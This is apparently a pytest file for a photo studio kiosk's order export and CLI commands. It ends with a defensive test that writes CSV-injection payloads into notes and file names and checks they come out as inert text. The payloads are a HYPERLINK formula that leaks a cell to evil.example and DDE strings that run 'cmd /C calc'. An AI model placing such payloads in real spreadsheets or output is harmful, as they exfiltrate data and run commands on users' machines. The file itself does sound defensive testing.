from __future__ import annotations

import csv
import json
from dataclasses import replace

from kiosk.checkout.export import export_order, write_order
from kiosk.checkout.settings import save_studio_details
from kiosk.cli import checkout as cli_checkout
from kiosk.config import save_settings
from tests.checkout.conftest import DEMO, STUDIO


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_export_writes_the_order_the_files_and_the_retouch_sheet(studio, invoice, tmp_path):
    mockup = DEMO / "30-sunset-hilltop.jpg"
    folder = export_order(
        studio.store, invoice.number, tmp_path / "out", mockups=[mockup], studio=STUDIO
    )

    assert folder.name == "order-0001-eleanor-whitfield"
    assert sorted(p.name for p in folder.iterdir()) == [
        "files.csv",
        "invoice-0001.pdf",
        "lines.csv",
        "mockups",
        "order.json",
        "retouch-sheet.txt",
    ]
    assert (folder / "mockups" / mockup.name).read_bytes() == mockup.read_bytes()

    order = json.loads((folder / "order.json").read_text(encoding="utf-8"))
    assert order["reference"] == "0001" and order["client"]["name"] == "Eleanor Whitfield"
    assert order["total"] == {"amount": invoice.total, "display": invoice.money(invoice.total)}
    assert order["lines"][0]["options"][0]["choice_name"] == "1.5″ gallery wrap"

    lines = read_csv(folder / "lines.csv")
    assert sum(int(row["amount_minor"]) for row in lines) == invoice.total
    canvas = next(row for row in lines if row["product"] == "canvas")
    assert {
        "kind": "item",
        "size": "30×40",
        "options": "Wrap depth: 1.5″ gallery wrap",
        "quantity": "1",
        "unit_price_minor": "130500",
        "unit_price": "$1,305.00",
        "amount_minor": "11000",
        "amount": "$110.00",
        "note": "included in Heirloom",
    }.items() <= canvas.items()
    prints = next(row for row in lines if row["product"] == "print")
    assert (prints["quantity"], prints["size"], prints["options"]) == (
        "2",
        "8×10",
        "Paper: Metallic pearl",
    )
    assert [row["kind"] for row in lines][-3:] == ["shipping", "tax", "session_credit"]

    files = read_csv(folder / "files.csv")
    assert len(files) == 16 and all(row["original_found"] == "yes" for row in files)
    noted = next(row for row in files if row["retouch_note"])
    assert noted["retouch_tags"] == "Skin smoothing, Remove stray hair"
    assert "Gallery canvas 30×40" in noted["ordered_on"]

    sheet = (folder / "retouch-sheet.txt").read_text(encoding="utf-8")
    assert "Invoice 0001" in sheet and "2 to retouch, 16 to deliver" in sheet
    assert "Note: Soften the chin shadow; keep freckles" in sheet
    assert "Retouch: Black & white" in sheet

    # Again: the folder is replaced whole, and nothing half-written is left beside it.
    export_order(studio.store, invoice.number, tmp_path / "out")
    assert [p.name for p in (tmp_path / "out").iterdir()] == [folder.name]
    assert not (folder / "mockups").exists()


def test_the_export_command(studio, invoice, tmp_path, capsys):
    save_studio_details(studio.store, STUDIO)
    # The lab's files at 20 ppi: a 30×40 canvas at 300 would take seconds on each export here.
    save_settings(studio.paths, {"lab_min_ppi": 10, "lab_ppi": 20})
    data = str(studio.paths.root)
    assert cli_checkout.main(["--data", data, "export", "0001", "--to", str(tmp_path)]) == 0
    printed = capsys.readouterr().out.strip()
    assert printed == str(tmp_path / "order-0001-eleanor-whitfield")
    assert (tmp_path / "order-0001-eleanor-whitfield" / "invoice-0001.pdf").exists()
    production = read_csv(tmp_path / "order-0001-eleanor-whitfield/production/production.csv")
    canvas = next(row for row in production if row["product"] == "canvas")
    assert (canvas["width_px"], canvas["height_px"]) in (("600", "800"), ("800", "600"))

    assert cli_checkout.main(["--data", data, "export", "7"]) == 1
    assert "There is no invoice number 7" in capsys.readouterr().err
    assert cli_checkout.main(["--data", data, "export", "1"]) == 0  # default: exports/
    assert (studio.paths.root / "exports" / "order-0001-eleanor-whitfield").is_dir()
    assert not (studio.paths.root / "exports" / "order-0001-eleanor-whitfield/mockups").exists()

    # The session's wall-art mock-ups go with it without being named.
    mockups = studio.paths.mockups(invoice.session_id)
    mockups.mkdir(parents=True)
    (mockups / "living-room.jpg").write_bytes((DEMO / "30-sunset-hilltop.jpg").read_bytes())
    assert cli_checkout.main(["--data", data, "export", "1"]) == 0
    exported = studio.paths.root / "exports" / "order-0001-eleanor-whitfield" / "mockups"
    assert [p.name for p in exported.iterdir()] == ["living-room.jpg"]


def test_the_outbox_command_lists_what_waits(studio, invoice, capsys):
    from kiosk.checkout.mailer import queue_invoice_email

    queue_invoice_email(studio.store, invoice, STUDIO, b"%PDF-1.4 stand-in")
    assert cli_checkout.main(["--data", str(studio.paths.root), "outbox", "--send"]) == 1
    captured = capsys.readouterr()
    assert "No mail server is set up" in captured.err
    assert "eleanor@example.com  Your invoice 0001 from Golden Hour Portraits" in captured.out
    assert "Queued." in captured.out


# What a spreadsheet program runs as a formula (or a DDE call) when it opens a CSV.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for the proofs")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def runs_as_formula(cell: str) -> bool:
    """A spreadsheet-like reading: a cell starting with one of these is a formula, unless
    it is a plain signed number or amount (which a spreadsheet reads as a number)."""
    if not cell or cell[0] not in "=+-@\t\r":
        return False
    rest = cell[1:].replace("$", "").replace(",", "").replace(".", "").replace(" ", "")
    return not (cell[0] in "+-" and rest.isdigit())


def test_notes_and_file_names_that_look_like_formulas_are_written_as_text(invoice, tmp_path):
    images = tuple(
        replace(image, note=FORMULAS[n % len(FORMULAS)], file_name=FORMULAS[-1 - n % 6] + ".jpg")
        for n, image in enumerate(invoice.images)
    )
    folder = write_order(replace(invoice, images=images), tmp_path / "out")
    files = read_csv(folder / "files.csv")
    lines = read_csv(folder / "lines.csv")
    cells = [cell for row in files + lines for cell in row.values()]
    assert not [cell for cell in cells if runs_as_formula(cell)]
    # Nothing lost: the text after the apostrophe is what the photographer typed.
    notes = [row["retouch_note"] for row in files]
    assert notes == ["'" + FORMULAS[n % len(FORMULAS)] for n in range(len(images))]
    # Amounts stay numbers, negative ones too (the discount lines).
    assert sum(int(row["amount_minor"]) for row in lines) == invoice.total
    assert any(row["amount"].startswith("-") for row in lines)
